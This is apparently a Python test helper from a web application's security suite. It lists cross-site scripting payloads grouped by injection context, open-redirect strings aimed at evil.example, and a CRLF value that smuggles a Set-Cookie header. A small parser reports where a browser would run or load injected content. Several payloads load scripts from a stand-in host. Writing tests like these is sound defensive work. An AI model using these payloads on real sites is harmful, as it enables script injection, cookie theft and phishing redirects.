"""What somebody types who wants another's browser to run it, or to lead it elsewhere.

Every script is written for one of the places in which a page may show a word: between tags, in an
attribute, in an address, inside an element whose text is no text, or in a template. Each holds
MARK, which stands nowhere else; `ran_by` finds it where a browser would act upon it.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

MARK = "zqx"

BETWEEN_TAGS = (
    "<script>zqx()</script>",
    "<ScRiPt>zqx()</sCrIpT>",
    "<<script>zqx()//<</script>",
    "<script src=//zqx.example/x.js></script>",
    "<script src=data:text/javascript,zqx()></script>",
    '<script type=module>import "data:text/javascript,zqx()"</script>',
    "<img src=x onerror=zqx()>",
    '<img srcset="//zqx.example/x 1x">',
    "<svg onload=zqx()>",
    "<svg/onload=zqx()>",
    "<svg><script>zqx()</script></svg>",
    "<svg><animate onbegin=zqx() attributeName=x>",
    '<svg><use href="data:image/svg+xml,zqx#x">',
    "<math><mtext><a xlink:href=javascript:zqx()>x",
    '<iframe srcdoc="<script>parent.zqx()</script>">',
    "<iframe src=javascript:zqx()>",
    "<body onload=zqx()>",
    "<input autofocus onfocus=zqx()>",
    "<details open ontoggle=zqx()>",
    "<video><source onerror=zqx()>",
    "<audio src onerror=zqx()>",
    "<marquee onstart=zqx()>",
    "<object data=javascript:zqx()>",
    "<embed src=javascript:zqx()>",
    "<form action=javascript:zqx()><button>x",
    "<button formaction=javascript:zqx()>x",
    "<base href=//zqx.example/>",
    '<meta http-equiv=refresh content="0;url=javascript:zqx()">',
    "<link rel=stylesheet href=//zqx.example/x.css>",
    '<style>@import "//zqx.example/x.css"</style>',
    '<p style="background:url(//zqx.example)">',
    "<template><script>zqx()</script></template>",
    "<noscript><img src=x onerror=zqx()></noscript>",
    '<a href="javascript:zqx()">x</a>',
    '<a href="java&#9;script:zqx()">x</a>',
    "<x zqx>",
)
IN_AN_ATTRIBUTE = (
    '" onmouseover="zqx()',
    "' onmouseover='zqx()",
    '"><script>zqx()</script>',
    "'><script>zqx()</script>",
    '" autofocus onfocus="zqx()" x="',
    "' autofocus onfocus='zqx()' x='",
    '"/><svg onload=zqx()>',
    "x onmouseover=zqx()",
    "x\tonmouseover=zqx()",
    '" zqx=',
    "' zqx=",
)
IN_AN_ADDRESS = (
    "javascript:zqx()",
    "JaVaScRiPt:zqx()",
    "vbscript:zqx()",
    "data:text/html,<script>zqx()</script>",
    "//zqx.example/",
)
OUT_OF_AN_ELEMENT = (
    "</title><script>zqx()</script>",
    "</textarea><script>zqx()</script>",
    "</style><script>zqx()</script>",
    "--><script>zqx()</script>",
)
IN_A_TEMPLATE = ("{{'zqx'*2}}", "{%print('zqx'*2)%}")
MADE_PLAIN_TWICE = (
    "&lt;script&gt;zqx()&lt;/script&gt;",  # by who takes the escapes away once too often
    "\uff1cscript\uff1ezqx()\uff1c/script\uff1e",  # by who normalises the wide signs
)
SCRIPTS = (
    *BETWEEN_TAGS,
    *IN_AN_ATTRIBUTE,
    *IN_AN_ADDRESS,
    *OUT_OF_AN_ELEMENT,
    *IN_A_TEMPLATE,
    *MADE_PLAIN_TWICE,
)
# One of each place, for the quick form.
SIX = (
    "<script>zqx()</script>",
    "<img src=x onerror=zqx()>",
    '" autofocus onfocus="zqx()" x="',
    "' onmouseover='zqx()",
    "javascript:zqx()",
    "</textarea><script>zqx()</script>",
)

# Where browsers, proxies and libraries disagree about whose address it is.
ELSEWHERE = (
    "https://evil.example",
    "http://evil.example/",
    "HTTPS://evil.example",
    "https:evil.example",
    "https:/evil.example",
    "https:///evil.example",
    "https://localhost@evil.example",
    "https://localhost:80@evil.example/",
    "http://localhost.evil.example/",
    "http://evil.example#localhost",
    "http://evil.example?localhost/",
    "http://evil.example\\@localhost/",
    "http://[::1]/",
    "http://[::1",
    "//[",
    "ftp://evil.example/",
    "//evil.example",
    "///evil.example",
    "////evil.example",
    "//evil.example/%2f..",
    "//localhost@evil.example",
    "/\\evil.example",
    "\\/evil.example",
    "\\\\evil.example",
    "\\evil.example",
    "/\t/evil.example",
    "/\n/evil.example",
    "\t//evil.example",
    " //evil.example",
    "/ /evil.example",
    "/\u00a0/evil.example",
    "/.//evil.example",
    "/..//evil.example",
    "/cases/..//evil.example",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,x",
    "evil.example",
    "\uff0f\uff0fevil.example",
    "/cases/\r\nSet-Cookie: a=b",
)

ADDRESSES = frozenset(
    ("href", "src", "action", "formaction", "data", "xlink:href", "srcset", "poster", "content")
)
RUNS = re.compile(r"(javascript|vbscript|data):|//|https?:")
NEVER = frozenset(("base", "embed", "iframe", "marquee", "math", "object", "style"))


class _Reader(HTMLParser):
    """Reads a page as a browser does, as far as scripts go."""

    def __init__(self, host: str) -> None:
        super().__init__(convert_charrefs=True)
        self._host, self._inside = host, ""
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._inside = tag if tag in ("script", "style") else ""
        if tag in NEVER or MARK in tag:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            plain = re.sub(r"[\x00-\x20]", "", value or "").lower()
            leads = RUNS.match(plain.removeprefix(self._host) or "x")
            if name.startswith("on") or name in ("style", "srcdoc") or MARK in name:
                self.found.append(f"<{tag} {name}>")
            elif name in ADDRESSES and leads and not plain.startswith(self._host):
                self.found.append(f"<{tag} {name}={plain[:40]}>")
            elif name == "http-equiv":
                self.found.append(f"<{tag} {name}>")

    def handle_endtag(self, tag: str) -> None:
        self._inside = ""

    def handle_data(self, data: str) -> None:
        if self._inside and data.strip():
            self.found.append(f"inside {self._inside}: {data[:40]}")
        if MARK * 2 in data:
            self.found.append(f"computed: {data[:40]}")

    def handle_comment(self, data: str) -> None:
        if MARK in data:
            self.found.append(f"a comment: {data[:40]}")

    def handle_decl(self, decl: str) -> None:
        if MARK in decl:
            self.found.append(f"a declaration: {decl[:40]}")


def ran_by(page: str, host: str = "http://localhost/") -> list[str]:
    """Where a browser would run, load or follow what no template of ours has written."""
    reader = _Reader(host)
    reader.feed(page)
    reader.close()
    return reader.found
